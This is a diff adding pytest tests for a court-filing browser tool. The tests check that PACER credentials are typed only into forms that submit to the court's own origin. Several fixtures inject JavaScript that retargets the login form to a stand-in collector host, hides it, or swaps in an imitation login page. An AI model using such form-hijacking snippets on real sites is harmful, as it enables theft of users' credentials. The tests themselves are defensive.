@@ -1,0 +1,104 @@
+"""A password is only typed on the court's origin, into a form that submits to it."""
+
+import pytest
+
+from config.account import Account
+from ecfcheck.browser.window import Window
+from ecfcheck.courts.court_session import CourtSession
+from pages.errors import NotUsableError, WrongOriginError
+
+ELSEWHERE = "http://collector.localhost:9/take"
+FORM = "const form = document.getElementById('loginForm');"
+
+
+@pytest.fixture
+def window(window: Window) -> Window:
+    window.open("pacer_login", 10)
+    assert window.wait_for_screen("pacer_login", 10).is_expected
+    return window
+
+
+@pytest.fixture
+def account(court: CourtSession) -> Account:
+    return court.accounts.provide("unlinked_filer")
+
+
+def log_in(window: Window, account: Account) -> None:
+    """Log in as a flow does; CM/ECF appears if the credential was sent to PACER."""
+    typed = {"user_name": account.pacer.user_name, "password": account.pacer.password}
+    assert window.act("pacer_login", "log_in", typed)
+
+
+def read_fields(window: Window) -> list[str]:
+    script = "[...document.querySelectorAll('#loginForm input:not([type=hidden])')].map(input => input.value)"
+    return list(window.page.evaluate(script))
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        f"form.setAttribute('action', '{ELSEWHERE}')",
+        f"form.querySelector('button').setAttribute('formaction', '{ELSEWHERE}')",
+        f"form.setAttribute('action', '{ELSEWHERE}'); form.innerHTML += '<input type=hidden name=action>'",
+        f"form.setAttribute('action', 'take'); document.head.innerHTML += '<base href=\"{ELSEWHERE}\">'",
+        "form.setAttribute('action', 'https://pacer.localhost/csologin/login.jsf')",
+        f"form.setAttribute('action', '{ELSEWHERE}'); form.style.opacity = 0",
+    ],
+    ids=["action", "formaction", "hidden action", "base", "another port", "transparent"],
+)
+def test_nothing_is_typed_into_a_form_that_submits_to_another_origin(
+    change: str, window: Window, account: Account
+) -> None:
+    window.page.evaluate(f"() => {{ {FORM} {change} }}")
+    with pytest.raises(WrongOriginError, match="a form on the page submits to http"):
+        log_in(window, account)
+    assert set(read_fields(window)) == {""}
+
+
+IMITATION = """<form id=loginForm><input id="loginForm:loginName">
+<input type=password id="loginForm:password"><button>Login</button></form>"""
+NAVIGATE_AWAY = f"""() => document.getElementById('loginForm:loginName').addEventListener('input', () => {{
+    document.getElementById('loginForm:password').disabled = true;
+    location.assign('{ELSEWHERE}');
+}})"""
+
+
+def test_nothing_is_typed_into_a_page_that_replaces_the_login_while_it_is_filled_in(
+    window: Window, account: Account
+) -> None:
+    window.page.route(ELSEWHERE, lambda route: route.fulfill(body=IMITATION, content_type="text/html"))
+    window.page.evaluate(NAVIGATE_AWAY)
+    with pytest.raises((WrongOriginError, NotUsableError)):
+        log_in(window, account)
+    window.page.wait_for_url(ELSEWHERE)
+    assert read_fields(window) == ["", ""]
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        "form.setAttribute('action', '/csologin/login.jsf')",
+        "form.setAttribute('action', 'javascript:void(0)')",
+        f"document.body.innerHTML += '<form action=\"{ELSEWHERE}\"><button>Search</button></form>'",
+        f"document.body.innerHTML += '<form action=\"{ELSEWHERE}\" hidden><input></form>'",
+    ],
+    ids=["own", "script", "nothing to type in", "hidden"],
+)
+def test_a_form_that_submits_to_the_court_is_filled_in(change: str, window: Window, account: Account) -> None:
+    window.page.evaluate(f"() => {{ {FORM} {change} }}")
+    log_in(window, account)
+    assert window.wait_for_screen("cmecf_home", 10, previous_screen="pacer_login").is_expected
+
+
+def test_nothing_is_typed_after_a_script_has_left_the_court(
+    window: Window, account: Account, court: CourtSession
+) -> None:
+    elsewhere = f"{court.court.website}/"
+    window.page.evaluate("there => { setTimeout(() => location.assign(there), 50); }", elsewhere)
+    window.page.wait_for_url(elsewhere)
+    with pytest.raises(WrongOriginError) as error:
+        log_in(window, account)
+    assert str(error.value) == (
+        f"pacer_login log_in: nothing was typed; the court's file says {court.court.pacer_login},"
+        f" but the window is now at {elsewhere}"
+    )
